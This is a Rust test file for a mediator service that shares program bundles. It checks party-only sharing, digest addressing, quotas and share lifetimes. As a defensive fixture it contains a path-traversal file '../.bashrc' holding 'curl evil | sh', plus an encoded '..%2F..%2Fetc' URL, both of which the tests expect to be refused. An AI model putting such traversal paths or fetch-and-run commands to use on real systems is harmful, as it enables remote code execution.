//! Program bundles shared through the mediator: only its parties may share, each within a quota;
//! a bundle is named by the digest of its files, which the mediator computes; unsafe paths are
//! refused; and a fetcher refuses files that are not the digest it was given.

use crate::common;

use common::*;
use mpc_client::MediatorClient;
use mpc_client::mediator::fetch_bundle;
use mpc_identity::bundle::SharedBundle;
use mpc_identity::unix_now;

fn bundle(n: usize, extra_bytes: usize) -> SharedBundle {
    SharedBundle::new(vec![
        ("__main__.py".into(), format!("import helper  # {n}\n").into_bytes()),
        ("helper.py".into(), vec![b'#'; extra_bytes]),
    ])
}

async fn sharing_is_for_parties_bounded_and_content_addressed(backend: Backend) {
    let mediator = TestMediator::start(backend).await;
    let client = MediatorClient::connect(&mediator.base).await.expect("connect");
    let stranger = Party::new("stranger", &mediator).await;
    let host = Party::new("host", &mediator).await;
    host.enroll().await;
    let expires = unix_now() + 3600;

    // A stranger (no enrollment here) may not leave files.
    let refused = client.share_bundle(&stranger.identity, &bundle(0, 10), expires).await.expect_err("stranger");
    assert!(refused.to_string().contains("not served by this mediator"), "{refused}");

    // A party may; the URL names the digest, and what it serves checks against it.
    let shared = bundle(1, 10);
    let digest = shared.check().expect("bundle").digest;
    let url = client.share_bundle(&host.identity, &shared, expires).await.expect("shared");
    assert!(url.ends_with(&format!("/bundles/{digest}")), "{url}");
    let fetched = fetch_bundle(&url, &digest).await.expect("fetched");
    assert_eq!(fetched.files.len(), 2);
    // Asked for another digest than the one it holds, a fetcher refuses it.
    let other = bundle(2, 10).check().expect("bundle").digest;
    let swapped = fetch_bundle(&url, &other).await.expect_err("not that digest").to_string();
    assert!(swapped.contains("refusing them"), "{swapped}");
    // Nothing under a digest never shared, and digests only.
    let missing = format!("{}/bundles/{other}", mediator.base);
    assert_eq!(mpc_test_support::http().get(&missing).send().await.expect("get").status(), 404);
    let bad = format!("{}/bundles/..%2F..%2Fetc", mediator.base);
    assert_eq!(mpc_test_support::http().get(&bad).send().await.expect("get").status(), 400);

    // Paths that could escape the directory a joiner saves into are refused before storing.
    let escaping = SharedBundle::new(vec![
        ("__main__.py".into(), b"x".to_vec()),
        ("../.bashrc".into(), b"curl evil | sh".to_vec()),
    ]);
    let message = mpc_client::mediator::new_message(
        mpc_identity::protocols::PROGRAM_BUNDLE_SHARE,
        &host.identity.record.did,
        serde_json::json!({ "expires_time": expires }),
    );
    let mut message = message;
    message["attachments"] =
        serde_json::json!([{ "data": { "json": serde_json::to_value(&escaping).expect("json") } }]);
    let refused = client.request(&host.identity, &message).await.expect_err("escaping path").to_string();
    assert!(refused.contains("not a safe relative path"), "{refused}");

    // At most 8 bundles per party at a time.
    for n in 3..10 {
        client.share_bundle(&host.identity, &bundle(n, 10), expires).await.expect("within the quota");
    }
    let over = client.share_bundle(&host.identity, &bundle(99, 10), expires).await.expect_err("over").to_string();
    assert!(over.contains("at most 8"), "{over}");
}

/// A party that shares a known program's bundle first, with a two-second life, does not shorten
/// the host's share of the same files: each owner's copy lives for its own lifetime.
async fn a_strangers_short_lived_copy_never_shadows_the_hosts_share(backend: Backend) {
    let mediator = TestMediator::start(backend).await;
    let client = MediatorClient::connect(&mediator.base).await.expect("connect");
    let squatter = Party::new("squatter", &mediator).await;
    squatter.enroll().await;
    let host = Party::new("host", &mediator).await;
    host.enroll().await;
    let shared = bundle(7, 10);
    let digest = shared.check().expect("bundle").digest;
    client.share_bundle(&squatter.identity, &shared, unix_now() + 2).await.expect("the squatter shares first");
    let url = client.share_bundle(&host.identity, &shared, unix_now() + 3600).await.expect("the host shares");
    mediator.advance_clock(std::time::Duration::from_secs(4));
    let fetched = fetch_bundle(&url, &digest).await.expect("the host's share outlives the squatter's");
    assert_eq!(fetched.digest, digest);
}

on_both_backends!(
    sharing_is_for_parties_bounded_and_content_addressed,
    a_strangers_short_lived_copy_never_shadows_the_hosts_share
);
